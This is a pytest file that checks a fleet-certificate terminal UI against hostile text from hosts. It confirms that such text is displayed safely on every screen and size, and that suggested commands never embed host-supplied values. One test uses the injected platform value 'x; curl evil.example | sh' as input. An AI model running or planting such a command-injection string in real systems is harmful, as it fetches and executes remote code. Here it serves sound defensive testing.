"""Hostile answers of hosts on every screen for many hosts: no crash, no effect, and the text is displayed."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest
from fleet_made import listed, pair
from fleet_user import at_fleet
from hands_at_app import AtTheApp, look_through
from hostile import ALL_IN_ONE, HOSTILE
from hostile_fleet import answer_hostile
from safety_results import counted
from screen_openings import FLEET_OPENINGS, Opening

from csrtui.fleet.host_answer import MAX_TEXT
from csrtui.tui.crash_safe_app import SafeApp

if TYPE_CHECKING:
    from pathlib import Path

    from fake_ansible import FakeAnsible
    from textual.filter import LineFilter

    from csrtui.tasks.session import Session

PROMISE = "Text from outside is displayed and has no effect"
WAYS = {
    "narrow": (ALL_IN_ONE, (40, 12)),
    "wide": (ALL_IN_ONE, (120, 40)),
    "long": (HOSTILE["long"][:MAX_TEXT], (80, 24)),
    "markup": (HOSTILE["action"] + HOSTILE["markup"], (80, 24)),
}


@pytest.fixture(autouse=True)
def _no_second_net(monkeypatch: pytest.MonkeyPatch) -> None:
    """Disable the filter that would hide a view's missing escaping."""

    def without(_: SafeApp[None]) -> list[LineFilter]:
        return []

    monkeypatch.setattr(SafeApp, "get_line_filters", without)


async def visit(
    session: Session, fake: FakeAnsible, opening: Opening, way: tuple[str, tuple[int, int]], out: Path
) -> None:
    text, size = way
    answer_hostile(fake, opening, text)
    async with at_fleet(session, fake, size) as user:
        await opening.take(AtTheApp(user), out=out)
        assert type(user.app.screen).__name__ == opening.screen
        await look_through(user, opening)


@pytest.mark.parametrize("opening", FLEET_OPENINGS, ids=lambda one: one.screen)
async def test_every_screen_of_many_hosts_with_hostile_text(
    session: Session, fake: FakeAnsible, tmp_path: Path, opening: Opening
) -> None:
    await visit(session, fake, opening, (ALL_IN_ONE, (80, 24)), tmp_path)


@pytest.mark.slow
@pytest.mark.safety
@pytest.mark.parametrize("way", WAYS.values(), ids=WAYS)
@pytest.mark.parametrize("opening", FLEET_OPENINGS, ids=lambda one: one.screen)
async def test_every_screen_of_many_hosts_at_every_size(
    session: Session,
    fake: FakeAnsible,
    tmp_path: Path,
    opening: Opening,
    way: tuple[str, tuple[int, int]],
) -> None:
    with counted(PROMISE, "screens of many hosts with hostile texts") as tally:
        await visit(session, fake, opening, way, tmp_path)
        tally.add(1)


async def test_a_list_with_a_text_that_is_too_long_is_a_failure_with_its_remedy(
    session: Session, fake: FakeAnsible
) -> None:
    fake.answers({"web1": listed(pair(subject="x" * 1_000_000)), "web2": listed(pair())})
    async with at_fleet(session, fake) as user:
        await user.read()
        assert user.pairs_of_hosts == [("web2", "a.com")]
        await user.press("h")
        assert "too-large: the list of its pairs cannot be read: subject has a string of 1000000" in user.page


async def test_the_command_of_a_next_step_has_no_text_of_the_host_in_it(
    session: Session, fake: FakeAnsible
) -> None:
    life = {"status": "verified", "path": "/b", "created": None, "verified": "2026-11-20T09:00:00Z"}
    harmful: dict[str, Any] = {
        "stage": "issued",
        "submitted": "2026-11-23T09:00:00Z",
        "expires": "2027-11-23T09:00:00Z",
        "backup": life,
    }
    for platform, shown in (("x; curl evil.example | sh", "PLATFORM"), ("nginx", "nginx")):
        fake.answers({"web1": listed(pair(platform=platform, **harmful))})
        async with at_fleet(session, fake) as user:
            await user.read()
            await user.press("full_stop")
            assert user.said == f"on web1, the first time: csrtui export a.com --for {shown} --to DIR"
